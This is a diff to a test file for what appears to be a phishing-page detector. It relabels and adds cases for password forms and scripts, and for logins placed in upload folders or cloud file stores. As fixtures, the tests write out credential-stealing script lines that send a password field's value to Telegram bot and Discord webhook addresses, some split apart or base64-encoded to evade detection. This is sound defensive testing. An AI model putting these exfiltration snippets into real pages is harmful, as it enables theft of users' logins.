@@ -46,7 +46,7 @@ describe('a form for a password', () => {
     ['posts to an IPv6 address', ['content.form_ip'], form('https://[2001:db8::1]/x.php')],
     ['is sent by mail', ['content.form_mail'], form('MailTo:a@b.example')],
     ['is sent to a collector', ['content.form_bot'], form('https://formspree.io/f/abc')],
-    ['is sent to a chat bot', ['content.form_bot'], form('https://api.telegram.org/bot1:x/sendMessage')],
+    ['is sent to a chat bot', ['content.form_chat'], form('https://api.telegram.org/bot1:x/sendMessage')],
     [
       'is sent elsewhere by its button',
       ['content.form_cross_site'],
@@ -127,23 +127,28 @@ describe('a script on a page with a password', () => {
   test.each([
     [
       'sends it to a chat bot',
-      ['content.form_bot'],
+      ['content.form_chat'],
       script("fetch('https://api.telegram.org/bot'+t+'/sendMessage')"),
     ],
     [
       'sends it to a chat bot in pieces',
-      ['content.form_bot'],
+      ['content.form_chat'],
       script("var u='https://api.tele'+'gram.org/bot'"),
     ],
     [
       'sends it to a chat bot in disguise',
-      ['content.form_bot'],
+      ['content.form_chat'],
       script(`var u=atob("${btoa('https://api.telegram.org/bot123:abc/')}")`),
     ],
     [
       'sends it to a webhook',
-      ['content.form_bot'],
+      ['content.form_chat'],
       script("fetch('https://discord.com/api/webhooks/1/x',{body:p.value})"),
+    ],
+    [
+      'sends it to a webhook of its own kind',
+      ['content.form_bot'],
+      script("fetch('/api/webhooks/1',{body:p.value})"),
     ],
     [
       'sends it to another site',
@@ -210,7 +215,7 @@ describe('a script that sends whatever a page was given', () => {
   test('finds the address of a bot that a list holds in base64', () => {
     const bot = btoa('https://api.telegram.org/bot15:AAE/sendMessage')
     const code = `<script>var l=["${bot}","submit"];addEventListener(l[1],()=>fetch(atob(l[0])))</script>`
-    expect(at(login + code)).toEqual(['content.form_bot'])
+    expect(at(login + code)).toEqual(['content.form_chat'])
     expect(at(login + code.replace(bot, btoa('https://shop.example/api/status/of/services')))).toEqual([])
     expect(at(code)).toEqual([])
   })
@@ -220,7 +225,7 @@ describe('a login in a folder of files', () => {
   const login = '<input type=password name=p>'
 
   test.each([
-    ['of uploads', 'https://harbour.example/wp-content/uploads/2026/x/index.html'],
+    ['of plug-ins', 'https://harbour.example/wp-content/plugins/abc/login.php'],
     ['of a library', 'https://harbour.example/vendor/phpunit/src/login.php'],
     ['of a module', 'https://harbour.example/modules/mod_menu/a/'],
   ])('%s', (_, url) => {
@@ -235,9 +240,40 @@ describe('a login in a folder of files', () => {
     expect(at(login, url)).toEqual([])
   })
 
+  test.each([
+    ['of uploads', 'https://harbour.example/wp-content/uploads/2026/x/index.html'],
+    ['of certificates', 'https://harbour.example/.well-known/acme/a/login.php'],
+    ['of a user, under a random name', 'https://harbour.example/~backup/17ddf2c/step1.php'],
+  ])('%s is proof', (_, url) => {
+    expect(at(login, url)).toEqual(['content.intruded_page'])
+    expect(at('<p>Hello', url)).toEqual([])
+  })
+
+  test('of a user is none', () => {
+    expect(at(login, 'https://uni.example/~smith/login.php')).toEqual([])
+    expect(at(login, 'https://uni.example/~smith/facade/login.php')).toEqual([])
+  })
+
   test('of files is proof where it asks for a card, but not in the folder of a seller', () => {
     const card = '<input name=cardnumber><input name=cvv>'
     expect(at(card, 'https://harbour.example/wp-content/plugins/abc/pay/')).toEqual(['content.intruded_page'])
     expect(at(card, 'https://harbour.example/vendor/acme/checkout')).toEqual(['content.misplaced_page'])
+  })
+})
+
+describe('a login in a store of files', () => {
+  test.each([
+    'https://storage.googleapis.com/a-bucket/login.html',
+    'https://a-bucket.fra1.digitaloceanspaces.com/login.html',
+    'https://ipfs.io/ipfs/bafybeitjqrimbykwkh2iereezrs5ieqwptsnijsbptvj3jtbue5nld2pug/',
+  ])('%s has nobody behind it', (url) => {
+    expect(at('<input type=password name=p>', url)).toContain('content.file_host_credential')
+    expect(at('<p>Hello', url)).toEqual([])
+  })
+
+  test('is none where programs run', () => {
+    expect(at('<input type=password name=p>', 'https://an-app.fly.dev/login')).toEqual([
+      'content.tenant_credential',
+    ])
   })
 })
